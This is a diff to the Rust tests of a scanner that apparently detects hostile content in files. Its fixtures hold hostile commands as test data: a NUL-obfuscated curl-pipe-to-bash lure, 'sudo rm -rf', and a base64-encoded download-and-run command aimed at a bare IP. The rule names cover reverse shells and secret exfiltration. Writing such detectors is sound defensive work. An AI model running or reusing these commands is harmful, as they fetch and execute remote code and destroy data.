@@ -273,7 +273,7 @@ mod tests {
             ("no-tls-check", 1),
             ("override", 4),
             ("persistence", 1),
-            ("pipe-to-shell", 11),
+            ("pipe-to-shell", 10),
             ("reverse-shell", 3),
             ("secrets-sent", 2),
             ("sudo", 2),
@@ -287,6 +287,8 @@ mod tests {
         let lure = b"a\0\ncu\0rl -s https://x.org/x | b\0ash\n";
         let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x02\xff\x81\xfe\x01\x80 sudo rm -rf https://x.org/a.exe";
         let dir = tempfile::tempdir().unwrap();
+        let wide = "\u{feff}sudo apt install x, and y".encode_utf16();
+        let wide: Vec<u8> = wide.flat_map(u16::to_le_bytes).collect();
         let late = [&b"a ".repeat(300)[..], lure].concat();
         for (name, bytes, mode, codes) in [
             ("notes.md", &lure[..], 0o644, &["nul-bytes", "pipe-to-shell"][..]),
@@ -298,8 +300,8 @@ mod tests {
             ("x.png", png, 0o755, &[]),
             ("schema.json", b"\xef\xbb\xbf{}", 0o644, &[]),
             ("schema.md", b"\xff\xfe{\0}\0", 0o644, &[]),
-            ("orders.md", b"\xff\xfes\0u\0d\0o\0 \0x\0", 0o644, &["sudo"]),
-            ("y.sh", b"\xff\xfes\0u\0d\0o\0 \0x\0", 0o644, &["nul-bytes", "sudo"]),
+            ("orders.md", &wide, 0o644, &["sudo"]),
+            ("y.sh", &wide, 0o644, &["nul-bytes", "sudo"]),
             ("x.pdf", b"%PDF-1.7\n\xe2\xe3 p\xd0\xb0ypal sudo rm x", 0o644, &[]),
             ("x.gif", b"GIF89a\xff\xfe\0\x81 echo Y3VybCAtZnNTTCBodHRwOi8vOTEuOTIuOTMuOTQveCB8IGJhc2g= \x80\x81", 0o644, &["encoded-command"]),
         ] {
